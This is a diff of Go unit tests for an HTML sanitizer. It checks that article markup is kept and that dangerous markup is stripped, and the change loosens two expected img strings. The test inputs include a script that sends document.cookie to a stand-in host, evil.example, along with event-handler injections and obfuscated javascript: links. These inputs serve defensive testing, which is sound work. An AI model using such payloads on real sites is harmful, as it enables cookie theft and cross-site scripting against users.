@@ -36,7 +36,7 @@ func TestConvertKeepsTheArticle(t *testing.T) {
 	for _, want := range []string{
 		`<strong>100 degrees</strong>`,
 		`<a href="https://planet.example/2009/07/08/cooling-centres/" rel="nofollow">cooling centres</a>`,
-		`<img src="https://planet.example/2009/07/09/uploads/heat.jpg" alt="Children in the fountain">`,
+		`<img src="https://planet.example/2009/07/09/uploads/heat.jpg" alt="Children in the fountain"`,
 		`<h3>What the city advises</h3>`, // headings shift under the headline
 		"<ul>\n<li>Drink water often.</li>\n<li>Check on <em>elderly</em> neighbours.</li>\n</ul>",
 		"<ol>\n<li>First</li>\n<li>Second</li>\n</ol>",
@@ -90,7 +90,7 @@ func TestConvertDropsWhatIsDangerous(t *testing.T) {
 		{"script", `<p>Before</p><script>document.location='https://evil.example/?'+document.cookie</script><p>After</p>`,
 			[]string{"<p>Before</p>", "<p>After</p>"}},
 		{"onerror", `<p><img src="https://planet.example/a.jpg" onerror="alert(1)" alt="A"></p>`,
-			[]string{`<img src="https://planet.example/a.jpg" alt="A">`}},
+			[]string{`<img src="https://planet.example/a.jpg" alt="A"`}},
 		{"event handlers", `<p onclick="steal()" onmouseover="x()">Text <a href="https://planet.example/" onfocus="y()">link</a></p>`,
 			[]string{`Text <a href="https://planet.example/" rel="nofollow">link</a>`}},
 		{"javascript link", `<p><a href="javascript:alert('x')">label</a> <a href="JaVaScRiPt:alert(3)">mixed</a> <a href="&#106;avascript:alert(4)">entity</a> <a href=" javascript:alert(5)">space</a></p>`,
